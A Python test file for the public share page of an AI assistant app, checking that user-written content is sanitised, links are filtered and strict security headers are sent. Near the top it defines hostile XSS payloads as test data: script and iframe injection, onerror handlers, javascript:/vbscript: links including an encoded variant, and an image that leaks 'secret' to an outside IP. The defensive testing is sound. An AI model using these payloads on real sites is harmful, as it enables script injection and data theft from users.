"""The page of a shared copy, for whoever has the link: all that there is to see, and nothing that could run or tell."""

import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.testclient import TestClient

from assistant.conversations.history import History
from assistant.conversations.sharing import Shares
from assistant.values.events import Answer, Citation, Received
from assistant.values.evidence import Page
from assistant.values.request import Request
from tests.support.controller_made import MadeController
from tests.support.kept_answers import SOURCE, full_answer, given, history_in
from ui.chosen_language import ChosenLanguage
from ui.shared_markdown import as_html
from ui.shared_page import SharedPage
from ui.words import in_language
from ui.words.sharing import ENGLISH, SharingWords

CHINESE = in_language("zh", SharingWords)

EVIL = "</title></style><script>alert(1)</script><img src=http://203.0.113.7/x.png onerror=alert(2)>"
HOSTILE = f"""
{EVIL} {EVIL}

![a picture](http://203.0.113.7/leak.png?q=secret) ![again][1] [press](javascript:alert(1)) <javascript:alert(1)>
[data](data:text/html,x) [vb](vbscript:x) [local](/settings) [JS](JaVaScRiPt:alert(1)) [e](java&#115;cript:alert(1))
[good](https://example.org/a?b=1&c="x") <https://example.org/b>

[1]: http://203.0.113.7/reference

<iframe src="http://203.0.113.7/frame"></iframe>

| a | b |
|:--|--:|
| 1 | <b>2</b> |

```html"><script>
</code></pre><script>alert(3)</script>
```

It was Dana.[1] It was not.[7]
"""


class Tags(HTMLParser):
    """Every tag of a page with its attributes, as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.all: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.all.append((tag, dict(attrs)))


@pytest.fixture
def history(tmp_path: Path) -> Iterator[History]:
    opened = history_in(tmp_path)
    yield opened
    opened.close()


@pytest.fixture
def client(history: History) -> TestClient:
    routes = SharedPage(Shares(history)).routes()
    return TestClient(Starlette(routes=routes, middleware=[Middleware(ChosenLanguage)]))


def share(history: History, question: str, answer: Answer, with_files: bool = False, name: str = "report.pdf") -> str:
    made = history.make("me").id
    entry = history.begin("me", made, "", question, (given(name),))
    history.end(entry.id, answer, question)
    path = history.originals._folder.parent / "handed over"
    path.write_bytes(b"%PDF the report")
    history.originals.keep(path, made, SOURCE, name)
    return Shares(history).make("me", made, with_files)


def hostile(history: History) -> str:
    cited = Citation(1, SOURCE, f"{EVIL}.pdf", "text", Page(3), f"quoted {EVIL}")
    answer = Answer(HOSTILE, (cited,), grounded=True, unsupported=("It was not.[7]",))
    return share(history, f"Who? {EVIL}", answer, name=f"{EVIL.replace('/', '')}.pdf")


def test_the_page_shows_question_files_answer_and_footnotes(client: TestClient, history: History) -> None:
    answered = client.get(f"/shared/{share(history, 'Who serviced the pump?', full_answer())}")
    page = BeautifulSoup(answered.text, "html.parser")
    assert answered.status_code == 200
    assert page.title is not None
    assert page.title.text == "Who serviced the pump?"
    for words in ("report.pdf", "It was Dana.", "她保养了水泵。", "page 3", "quote 1", "0:01–0:07", "sheet Costs"):
        assert words in page.get_text(" ")
    link = page.select_one(".answer sup a")
    assert link is not None
    assert page.select_one(str(link["href"])).get_text(" ").startswith("[1] report.pdf, page 3")  # type: ignore[union-attr]


def test_nothing_that_was_written_by_anybody_becomes_a_tag(client: TestClient, history: History) -> None:
    text = client.get(f"/shared/{hostile(history)}").text
    tags = Tags(text).all
    allowed = set(
        "html head meta title style body main h1 h2 h3 p section ul li bdi div a sup ol b blockquote pre code "
        "table thead tbody tr th td".split()
    )
    assert {tag for tag, _ in tags} <= allowed
    assert text.count("<style>") == text.count("</title>") == text.count("<main>") == 1
    attributes = {name for _, given in tags for name in given}
    assert not {name for name in attributes if name.startswith("on") or name in ("src", "style", "srcset", "action")}
    assert "alert(3)" in text  # as words of the block of code


def test_links_lead_to_the_web_alone_and_tell_it_nothing(client: TestClient, history: History) -> None:
    tags = Tags(client.get(f"/shared/{hostile(history)}").text).all
    links = [given for tag, given in tags if tag == "a"]
    outward = [one for one in links if not str(one["href"]).startswith("#")]
    assert {str(one["href"]) for one in outward} == {"https://example.org/a?b=1&c=%22x%22", "https://example.org/b"}
    assert {one["rel"] for one in outward} == {"noopener nofollow noreferrer"}
    assert {one["href"] for one in links if one not in outward} == {"#source-1-1"}


def test_the_browser_is_told_to_run_nothing_ask_nobody_and_keep_nothing(client: TestClient, history: History) -> None:
    for path in (hostile(history), "never"):
        headers = client.get(f"/shared/{path}").headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "script-src" not in policy
        assert "unsafe" not in policy
        assert headers["x-robots-tag"].startswith("noindex")
        assert headers["referrer-policy"] == "no-referrer"
        assert "no-store" in headers["cache-control"]
        assert "set-cookie" not in headers


def test_a_chosen_language_brings_no_script_into_it(client: TestClient, history: History) -> None:
    token = share(history, "Who?", full_answer())
    answered = client.get(f"/shared/{token}", headers={"cookie": "medley-language=zh"})
    assert "<script" not in answered.text
    assert 'lang="zh-CN"' in answered.text


def test_the_page_speaks_the_language_of_its_reader(client: TestClient, history: History) -> None:
    address = f"/shared/{share(history, 'Who?', full_answer())}"
    assert "第 3 页" in client.get(address, headers={"accept-language": "zh-CN,zh;q=0.9"}).text
    assert "page 3" in client.get(address, headers={"accept-language": "fr"}).text
    assert CHINESE.gone in client.get("/shared/never", headers={"accept-language": "zh-TW"}).text


def test_what_never_was_and_what_was_withdrawn_are_told_alike(client: TestClient, history: History) -> None:
    token = share(history, "Who?", full_answer(), with_files=True)
    Shares(history).revoke("me", token)
    told = [client.get(path) for path in (f"/shared/{token}", "/shared/never", f"/shared/{token}/{SOURCE}")]
    assert {one.status_code for one in told} == {404}
    assert len({one.text for one in told}) == 1
    assert ENGLISH.gone in told[0].text


def test_files_are_linked_and_had_only_where_they_were_shared_along(client: TestClient, history: History) -> None:
    without, along = (share(history, "Who?", full_answer(), with_files=each) for each in (False, True))
    assert SOURCE not in client.get(f"/shared/{without}").text
    assert client.get(f"/shared/{without}/{SOURCE}").status_code == 404
    link = BeautifulSoup(client.get(f"/shared/{along}").text, "html.parser").select_one(".files a")
    assert link is not None
    had = client.get(f"/shared/{link['href']}")
    assert had.content == b"%PDF the report"
    assert had.headers["content-type"] == "application/octet-stream"
    assert had.headers["content-disposition"].startswith("attachment")
    assert "default-src 'none'" in had.headers["content-security-policy"]


def test_why_an_answer_failed_stays_with_its_owner(client: TestClient, history: History) -> None:
    made = history.make("me").id
    entry = history.begin("me", made, "", "Who?", ())
    history.fail(entry.id, "The disk that holds /home/dana is full.", "")
    text = client.get(f"/shared/{Shares(history).make('me', made)}").text
    assert ENGLISH.no_answer in text
    assert "dana" not in text


def test_what_nothing_supports_is_marked(client: TestClient, history: History) -> None:
    answer = replace(full_answer("It was Dana.[1] A claim."), unsupported=("A claim.",), foreign=False)
    assert "A claim. †" in client.get(f"/shared/{share(history, 'Who?', answer)}").text


def test_only_what_the_model_knew_by_itself_is_said_to_be_that(client: TestClient, history: History) -> None:
    known = Answer("Paris.", received=Received(prompt_tokens=9, request=Request("capital?", "knowledge")))
    greeted = Answer("Hello!", received=Received(prompt_tokens=9, request=Request("hi", "small_talk")))
    assert ENGLISH.not_grounded in client.get(f"/shared/{share(history, 'capital?', known)}").text
    assert ENGLISH.not_grounded not in client.get(f"/shared/{share(history, 'hi', greeted)}").text


@pytest.mark.parametrize("text", ["[" * 3000, "![" * 2000, "> " * 2000 + "x", "*_" * 3000, "`" * 5000, "<" * 5000])
def test_text_made_to_be_slow_is_not(text: str) -> None:
    assert "<script" not in as_html(text, [], "a")


def test_a_number_in_code_or_of_no_citation_leads_nowhere() -> None:
    html = as_html("`x[1]` and [2] and [1] and [see [1]](https://a.example/)\n\n    y[1]", [1], "s-")
    assert re.findall(r'href="([^"]*)"', html) == ["#s-1", "https://a.example/"]


# The way to it in the list of conversations


@pytest.fixture
def tab(tmp_path: Path) -> Iterator[MadeController]:
    made = MadeController(tmp_path / "data")
    made.ask("Who serviced the pump?")
    yield made
    made.close()


def links(html: str) -> list[str]:
    return re.findall(r'href="(shared/[^"]*)"', html.replace("&#95;", "_"))


def test_a_copy_is_made_and_withdrawn_from_the_list(tab: MadeController) -> None:
    assert not links(tab.controller.list(tab.session))  # type: ignore[arg-type]
    (link,) = links(tab.do(f"share {tab.open}").conversations)
    token = link.partition("/")[2]
    assert tab.controller.shares.copy(token) is not None
    assert not links(tab.do(f"unshare {token}").conversations)
    assert tab.controller.shares.copy(token) is None


def test_somebody_else_cannot_share_or_withdraw_from_the_page(tab: MadeController, tmp_path: Path) -> None:
    theirs = tab.open
    (link,) = links(tab.do(f"share {theirs}").conversations)
    tab.owner, tab.session = "browser:other", None
    for command in (f"share {theirs}", f"unshare {link.partition('/')[2]}"):
        with pytest.warns(UserWarning, match="There is no such"):
            tab.do(command)
    assert tab.controller.shares.copy(link.partition("/")[2]) is not None
    assert len(tab.controller.shares.list("me", theirs)) == 1
